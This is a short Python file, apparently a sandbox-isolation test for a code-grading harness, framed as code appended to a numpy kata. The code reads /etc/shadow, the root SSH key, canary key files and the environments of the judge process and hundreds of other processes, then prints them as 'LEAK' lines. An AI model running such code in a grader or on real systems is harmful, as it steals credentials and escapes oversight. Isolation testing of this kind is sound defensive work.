"""Reads keys, dotfiles, its environment and that of every other process, and prints what it got.

kata: numpy, appended
verdict: passed
kernel: only
"""

import os

places = [CANARY["key"], *CANARY["files"], "/etc/shadow", "/root/.ssh/id_rsa", f"/proc/{CANARY['judge']}/environ"]
places += [f"/proc/{pid}/environ" for pid in range(1, 400)]
for place in places:
    try:
        with open(place, "rb") as file:
            print("LEAK:", place, file.read())
    except OSError:
        pass
print({name: value for name, value in os.environ.items() if name.isupper()})
with open("/proc/self/environ", "rb") as file:
    print(file.read())
